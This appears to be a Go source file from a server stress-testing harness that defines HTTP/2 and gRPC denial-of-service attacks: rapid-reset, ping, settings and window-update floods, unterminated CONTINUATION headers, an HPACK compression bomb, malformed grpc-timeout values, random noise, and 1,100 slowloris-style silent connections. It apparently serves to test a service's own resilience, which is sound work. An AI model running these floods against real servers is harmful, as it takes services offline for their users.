package main

import (
	"context"
	"crypto/rand"
	"fmt"
	"io"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// frameAttacks are HTTP/2 frames that no gRPC client sends. Their errors are
// ignored: the server may close the connection at any time.
func frameAttacks() []attack {
	frames := func(conns, n int, send func(r *rawHTTP2, i int) error) func(context.Context, *attacker) error {
		return func(ctx context.Context, a *attacker) error {
			return flood(ctx, conns, func(int) error {
				r, err := a.rawHTTP2(ctx)
				if err != nil {
					return nil //nolint:nilerr // refused
				}
				for i := 0; i < n && err == nil; i++ {
					err = send(r, i)
				}
				return nil //nolint:nilerr // the server closed the connection
			})
		}
	}
	const health = "/grpc.health.v1.Health/Watch"
	list := []attack{
		{"frames: rapid reset", "", frames(16, 5000, func(r *rawHTTP2, i int) error {
			stream := uint32(2*i + 1)
			if err := r.headers(stream, health); err != nil {
				return err
			}
			return r.WriteRSTStream(stream, http2.ErrCodeCancel)
		})},
		{"frames: more streams than allowed", "", frames(16, 5000, func(r *rawHTTP2, i int) error { return r.headers(uint32(2*i+1), service+"GetInst") })},
		{"frames: ping flood", "", frames(16, 20_000, func(r *rawHTTP2, _ int) error { return r.WritePing(false, [8]byte{}) })},
		{"frames: settings flood", "", frames(16, 20_000, func(r *rawHTTP2, i int) error {
			return r.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i)})
		})},
		{"frames: headers without an end", "", frames(64, 2000, func(r *rawHTTP2, i int) error {
			if i == 0 {
				return r.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x40}})
			}
			return r.WriteContinuation(1, false, []byte(strings.Repeat("x", 1000)))
		})},
		{"frames: header compression bomb", "", frames(16, 200, func(r *rawHTTP2, i int) error {
			var more []hpack.HeaderField
			for range 300 { // one entry in the table, referenced again and again
				more = append(more, hpack.HeaderField{Name: "x", Value: strings.Repeat("v", 3000)})
			}
			return r.headers(uint32(2*i+1), service+"GetInst", more...)
		})},
		{"frames: window of one byte", "", frames(64, 100, func(r *rawHTTP2, i int) error {
			if i == 0 {
				if err := r.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1}); err != nil {
					return err
				}
			}
			return r.headers(uint32(2*i+1), health)
		})},
		{"frames: window updates", "", frames(16, 20_000, func(r *rawHTTP2, _ int) error { return r.WriteWindowUpdate(0, 1) })},
		{"frames: data for no stream", "", frames(16, 500, func(r *rawHTTP2, i int) error { return r.WriteData(uint32(2*i+1), false, make([]byte, 16<<10)) })},
		{"frames: odd timeouts and types", "", frames(16, 200, func(r *rawHTTP2, i int) error {
			return r.headers(uint32(2*i+1), service+"GetInst", hpack.HeaderField{Name: "grpc-timeout", Value: []string{"1n", "99999999H", "-1S", "S", "999999999999999S"}[i%5]},
				hpack.HeaderField{Name: "grpc-encoding", Value: "gzip"})
		})},
		{"frames: noise", "", noise},
		{"frames: noise after the preface", "", func(ctx context.Context, a *attacker) error {
			return flood(ctx, 300, func(int) error {
				r, err := a.rawHTTP2(ctx)
				if err != nil {
					return nil //nolint:nilerr // refused
				}
				junk := make([]byte, 64<<10)
				_, _ = rand.Read(junk)
				_, _ = r.conn.Write(junk)
				return nil
			})
		}},
		{"1,100 silent connections", "", silentConnections},
	}
	for i := range list {
		list[i].target = "tokens"
	}
	return list
}

func noise(ctx context.Context, a *attacker) error {
	for _, addr := range []string{a.site.grpcAddr, a.site.httpAddr} {
		err := flood(ctx, 200, func(i int) error {
			c, err := a.dial(ctx, addr)
			if err != nil {
				return nil //nolint:nilerr // refused
			}
			junk := make([]byte, 32<<10)
			_, _ = rand.Read(junk)
			if i%2 == 0 {
				copy(junk, "\x16\x03\x01\x02\x00") // a TLS handshake
			}
			_, _ = c.Write(junk)
			return nil
		})
		if err != nil {
			return err
		}
	}
	return nil
}

func silentConnections(ctx context.Context, a *attacker) error {
	return flood(ctx, 1100, func(i int) error {
		c, err := a.dial(ctx, []string{a.site.grpcAddr, a.site.httpAddr}[i%2])
		if err == nil {
			_, _ = io.WriteString(c, fmt.Sprintf("GET /v1/tpl HTTP/1.1\r\nX-%d: ", i))
		}
		return nil
	})
}
